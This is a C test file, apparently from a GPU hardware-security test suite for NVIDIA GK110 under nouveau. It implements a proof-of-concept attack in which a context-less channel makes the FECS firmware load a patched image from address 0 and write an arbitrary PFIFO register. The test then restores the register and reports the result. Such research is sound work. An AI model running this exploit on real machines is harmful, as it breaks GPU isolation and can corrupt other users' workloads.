// SPDX-License-Identifier: GPL-2.0-only
/*
 * Graphics methods on a channel without a graphics context. The channel's context pointer is 0,
 * which FECS takes for an address. So FECS loads a guest's image that is mapped there, and writes
 * the registers that its list names.
 */
#include "attacks.h"

#include <linux/bitfield.h>

#include <gk110/fifo.h>

#include "bare/chan.h"
#include "bare/context.h"
#include "foreign.h"
#include "methods.h"
#include "tap.h"

/* The image is at address 0. Channel 4095 has its ring and pushbuffer far above any image. */
enum { CONTEXTLESS_ID = 4095, RUN_MS = 60000 };

static bool run_graphics(struct bare_chan *c)
{
	bare_emit(c, SUBC_INLINE, SET_OBJECT, CLASS_INLINE);
	bare_emit(c, SUBC_INLINE, GR_WAIT_FOR_IDLE, 0);
	return bare_run(c, RUN_MS);
}

static void attack(struct bare_gpu *g, struct gpu_chan *own, uint32_t reg, uint32_t value)
{
	struct bare_chan_config cfg = { .id = CONTEXTLESS_ID };
	uint32_t before = bare_read(g, reg), size = bare_image_size(g), after;
	struct bare_image img;
	struct bare_space s;
	struct bare_chan c;
	bool copied, ran;
	struct list l;

	cfg.runlist = FIELD_GET(PCCSR_CHAN_RUNLIST, bare_read(g, PCCSR_CHAN(own->chid)));
	current_list(g, cfg.runlist, &l);
	bare_space_create(g, &s);
	bare_image_create(g, &s, 0, size, &img);
	copied = bare_image_copy(g, &img, instance_of(g, own->chid));
	bare_image_patch(g, &img, reg, value);
	bare_chan_create(g, &s, &cfg, &c);
	submit_with(g, &l, CONTEXTLESS_ID);
	ran = run_graphics(&c);
	after = bare_read(g, reg);
	bare_write(g, reg, before);
	tap_result(
		ran && before != value && after == value,
		"attack works: a channel without a context runs graphics methods, and an image at address 0 writes a register of PFIFO",
		"register %06x: %08x -> %08x, image of %u bytes, copied %d, ran %d", reg, before,
		after, size, copied, ran);
	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
	tap_result(bare_chan_destroy(&c), "and lets go of the graphics engine", NULL);
}

void attack_no_context(struct machine *m)
{
	struct nouveau_object *object;
	struct nouveau_bo *bo;
	struct gpu_chan own;
	struct gpu gpu;

	gpu_open(&gpu, NULL);
	chan_must_open(&gpu, ENGINE_GR, &own);
	object = chan_object(&own, CLASS_INLINE);
	if (!object)
		bail("no graphics object");
	bo = bo_new(&gpu, NOUVEAU_BO_VRAM, OWN_BYTES);
	m->gpu.vram_next = own_vram(&m->gpu, &own, bo);
	attack(&m->gpu, &own, PFIFO_ENG_TIMESLICE(6), 0x10005042);
	job_begin(&own, 16);
	emit(&own, SUBC_INLINE, SET_OBJECT, CLASS_INLINE);
	emit(&own, SUBC_INLINE, GR_WAIT_FOR_IDLE, 0);
	tap_result(!job_run(&own), "nouveau's channels go on afterwards", NULL);
	bo_free(&bo);
	nouveau_object_del(&object);
	chan_close(&own);
	gpu_close(&gpu);
}
